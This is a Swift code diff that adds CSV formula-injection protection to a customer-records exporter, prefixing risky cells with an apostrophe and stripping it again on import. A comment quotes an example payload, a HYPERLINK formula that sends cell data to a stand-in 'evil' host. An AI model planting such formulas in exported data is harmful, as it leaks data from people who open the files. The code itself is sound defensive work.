@@ -17,14 +17,17 @@ public enum RecordsCSV {
     /// The whole file for `records`, in the order given. `forTerminal`
     /// (stdout is a terminal, not a file): control characters and escape
     /// sequences in the data are neutralised, as everywhere else on screen.
-    public static func data(_ records: [CustomerRecord], bom: Bool, forTerminal: Bool = false) -> Data {
+    /// Unless `raw`, a cell a spreadsheet would run as a formula is written
+    /// with a leading `'` (`SpreadsheetSafety`), which `import` takes off again.
+    public static func data(_ records: [CustomerRecord], bom: Bool, forTerminal: Bool = false, raw: Bool = false) -> Data {
         var out: [UInt8] = []
         out.reserveCapacity(64 + records.count * 160)
         if bom { out += [0xEF, 0xBB, 0xBF] }
         line(header, into: &out)
         for r in records {
             let fields = [r.customerID, r.customerName, r.customerLastName, r.tel1, r.tel2, r.tel3] + r.opts + [r.date, r.calls, r.result, r.connID, r.campaignID]
-            line(forTerminal ? fields.map { TerminalText.sanitize($0) } : fields, into: &out)
+            let shown = forTerminal ? fields.map { TerminalText.sanitize($0) } : fields
+            line(raw ? shown : shown.map(SpreadsheetSafety.neutralise), into: &out)
         }
         return Data(out)
     }
@@ -54,5 +57,29 @@ public enum RecordsCSV {
             }
             out.append(UInt8(ascii: "\""))
         }
+    }
+}
+
+/// CSV cells a spreadsheet would run: one that starts with `=`, `+`, `-`,
+/// `@`, TAB or CR is a formula to Excel, LibreOffice and Google Sheets
+/// (`=HYPERLINK("http://evil/"&A1,"x")` from a record's name). The OWASP
+/// rule: such a cell gets a leading `'`, which spreadsheets show as text.
+/// A cell that already starts with `'` gets one more, so `restore` (what
+/// `import` does) gives back exactly the value that was written.
+public enum SpreadsheetSafety {
+    static let risky: Set<UInt8> = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D]
+
+    public static func neutralise(_ cell: String) -> String {
+        guard let first = cell.utf8.first, risky.contains(first) || first == UInt8(ascii: "'") else { return cell }
+        return "'" + cell
+    }
+
+    /// The value `neutralise` was given: one leading `'` off, when what follows it would have been neutralised.
+    public static func restore(_ cell: String) -> String {
+        let bytes = cell.utf8
+        guard bytes.first == UInt8(ascii: "'"), let second = bytes.dropFirst().first, risky.contains(second) || second == UInt8(ascii: "'") else {
+            return cell
+        }
+        return String(cell.dropFirst())
     }
 }
